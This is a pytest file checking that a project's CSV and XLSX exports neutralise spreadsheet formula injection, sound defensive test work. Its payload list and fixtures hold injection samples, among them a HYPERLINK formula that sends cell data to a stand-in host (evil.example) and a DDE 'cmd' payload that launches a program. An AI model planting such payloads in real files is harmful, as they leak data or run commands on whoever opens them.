"""Formula injection: every CSV and XLSX file pestrack writes makes formula-like text inert."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import pytest

from pestrack.records.spreadsheet import safe_cell, safe_row

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Klicka")',
    "@SUM(1+1)",
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_like_text_gets_an_apostrophe(payload):
    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize(
    "value", ["Amina", "-12", "-0,5", "+46 8 123", "1 234,5", "-3.5e2", "", None, -4, 2.5, "a=b", "Ekström-Öberg"]
)
def test_numbers_and_plain_text_are_left_alone(value):
    assert safe_cell(value) == value


def test_rows_and_dicts():
    assert safe_row(["=1", 1, "x"]) == ["'=1", 1, "x"]
    assert safe_row({"a": "@x", "b": None}) == {"a": "'@x", "b": None}


WRITES = re.compile(r"csv\.writer\(|csv\.DictWriter\(|Workbook\(\)")
# Files whose CSV output no one opens in a spreadsheet: generated synthetic registers (values made by
# code) and the COPY stream into PostgreSQL.
EXEMPT = {"pestrack/synth/registers.py", "pestrack/indicators/engines.py"}


def test_every_module_that_writes_csv_or_xlsx_makes_its_cells_safe():
    root = Path(__file__).resolve().parents[2]
    writers = []
    for path in sorted((root / "pestrack").rglob("*.py")):
        text = path.read_text(encoding="utf-8")
        name = path.relative_to(root).as_posix()
        if WRITES.search(text) and name not in EXEMPT:
            writers.append(name)
            assert "safe_row" in text or "safe_cell" in text, f"{name} writes CSV/XLSX without records.spreadsheet"
    assert len(writers) >= 5


@pytest.mark.django_db
def test_the_rejects_file_makes_formulas_inert(profile, tmp_path):
    from pestrack.records.importing import engine
    from tests.records.test_import import PERSON_COLUMNS, person, write

    path = write(tmp_path / "p.csv", PERSON_COLUMNS, [person(pin="=cmd|' /C calc'!A0", first='=HYPERLINK("x")')])
    result = engine.run_import(path, "persons")
    assert result.rejected == 1
    with result.rejects_path.open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))
    cells = rows[1]
    assert "'=cmd|' /C calc'!A0" in cells and '\'=HYPERLINK("x")' in cells
    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)


@pytest.mark.django_db
def test_the_access_log_csv_export_makes_formulas_inert(profile):
    from typer.testing import CliRunner

    from pestrack.cli import app
    from pestrack.records.audit.log import record

    record('=HYPERLINK("http://x")', "read", object_type="person", detail="@SUM(1+1)", source="cli")
    out = CliRunner().invoke(app, ["audit", "search", "--format", "csv"])
    assert out.exit_code == 0, out.output
    assert "'=HYPERLINK" in out.output and "'@SUM(1+1)" in out.output


def test_the_annual_report_workbook_makes_formulas_inert():
    from openpyxl import Workbook

    from pestrack.reports import xlsx

    wb = Workbook()
    ws = wb.active
    xlsx._put(ws, 1, 1, "=1+1")
    xlsx._heading(ws, ["@x"])
    assert ws.cell(row=1, column=1).value == "'=1+1" and ws.cell(row=1, column=1).data_type == "s"
